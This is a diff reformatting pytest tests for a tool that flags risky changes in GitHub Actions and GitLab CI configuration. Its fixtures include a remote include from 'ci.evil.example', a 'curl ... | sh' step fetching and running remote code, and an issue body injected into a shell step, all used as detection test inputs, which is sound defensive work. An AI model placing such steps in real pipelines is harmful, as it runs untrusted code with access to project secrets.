@@ -86,12 +86,21 @@ def test_permissions_semantics(analyze: Analyze) -> None:
 
 def test_reusable_workflow_pin_and_inherit(analyze: Analyze) -> None:
     old = "on: push\njobs:\n  call:\n    uses: org/wf/.github/workflows/r.yml@" + "a" * 40 + "\n"
-    new = "on: push\njobs:\n  call:\n    uses: org/wf/.github/workflows/r.yml@main\n    secrets: inherit\n"
-    assert kinds(analyze(WF, old, new)) == {"action-unpinned", "action-pin-changed", "secret-referenced"}
+    new = (
+        "on: push\njobs:\n  call:\n"
+        "    uses: org/wf/.github/workflows/r.yml@main\n    secrets: inherit\n"
+    )
+    assert kinds(analyze(WF, old, new)) == {
+        "action-unpinned",
+        "action-pin-changed",
+        "secret-referenced",
+    }
 
 
 def test_composite_action(analyze: Analyze) -> None:
-    old = "name: setup\nruns:\n  using: composite\n  steps:\n    - run: echo hi\n      shell: bash\n"
+    old = (
+        "name: setup\nruns:\n  using: composite\n  steps:\n    - run: echo hi\n      shell: bash\n"
+    )
     new = old.replace("echo hi", 'echo "${{ github.event.issue.body }}"')
     facts = analyze(".github/actions/setup/action.yml", old, new)
     assert kinds(facts) == {"untrusted-input-in-run"}
@@ -149,7 +158,10 @@ deploy:
 
 def test_gitlab_risky(analyze: Analyze) -> None:
     new = (
-        GITLAB.replace("  - local: ci/templates.yml\n", "  - local: ci/templates.yml\n  - remote: https://ci.evil.example/job.yml\n")
+        GITLAB.replace(
+            "  - local: ci/templates.yml\n",
+            "  - local: ci/templates.yml\n  - remote: https://ci.evil.example/job.yml\n",
+        )
         .replace("registry.gitlab.com/acme/deployer:2.1", "docker.io/someone/deployer:latest")
         .replace('$CI_COMMIT_BRANCH == "main"', "$CI_COMMIT_BRANCH")
         .replace("    - pytest\n", "    - pytest\n    - curl -sSL https://get.example.dev | sh\n")
@@ -165,7 +177,14 @@ def test_gitlab_risky(analyze: Analyze) -> None:
 
 
 def test_gitlab_benign_and_malformed(analyze: Analyze) -> None:
-    assert analyze(".gitlab-ci.yml", GITLAB, "# pipeline\n" + GITLAB.replace("[test, deploy]", "\n  - test\n  - deploy")) == []
+    assert (
+        analyze(
+            ".gitlab-ci.yml",
+            GITLAB,
+            "# pipeline\n" + GITLAB.replace("[test, deploy]", "\n  - test\n  - deploy"),
+        )
+        == []
+    )
     assert kinds(analyze(".gitlab-ci.yml", GITLAB, "test: [\n")) == {"parse-failed"}
 
 
@@ -186,15 +205,21 @@ def _fake_zizmor(tmp_path: Path, findings: list[dict[str, object]], code: int = 
     return str(script)
 
 
-FINDING = {
+FINDING: dict[str, object] = {
     "ident": "dangerous-triggers",
     "desc": "use of fundamentally insecure workflow trigger",
     "url": "https://docs.zizmor.sh/audits/#dangerous-triggers",
     "determinations": {"confidence": "Medium", "severity": "High", "persona": "Regular"},
     "locations": [
         {
-            "symbolic": {"annotation": "pull_request_target is almost always used insecurely", "kind": "Primary"},
-            "concrete": {"location": {"start_point": {"row": 0, "column": 0}}, "feature": "on: pull_request_target"},
+            "symbolic": {
+                "annotation": "pull_request_target is almost always used insecurely",
+                "kind": "Primary",
+            },
+            "concrete": {
+                "location": {"start_point": {"row": 0, "column": 0}},
+                "feature": "on: pull_request_target",
+            },
         }
     ],
 }
@@ -224,9 +249,14 @@ def test_zizmor_absent_is_skipped() -> None:
     assert zizmor.analyze(WF, b"on: push\n", b"on: pull_request_target\n") == []
 
 
-@pytest.mark.skipif(not os.environ.get("SIGNOFF_ZIZMOR"), reason="set SIGNOFF_ZIZMOR=/path/to/zizmor")
+@pytest.mark.skipif(
+    not os.environ.get("SIGNOFF_ZIZMOR"), reason="set SIGNOFF_ZIZMOR=/path/to/zizmor"
+)
 def test_real_zizmor() -> None:
     zizmor = ZizmorAnalyzer(os.environ["SIGNOFF_ZIZMOR"])
-    new = b"on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
+    new = (
+        b"on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
+        b"    steps:\n      - uses: actions/checkout@v4\n"
+    )
     facts = run(zizmor, WF, b"on: push\njobs: {}\n", new)
     assert "dangerous-triggers" in {f.detail_dict().get("audit") for f in facts}
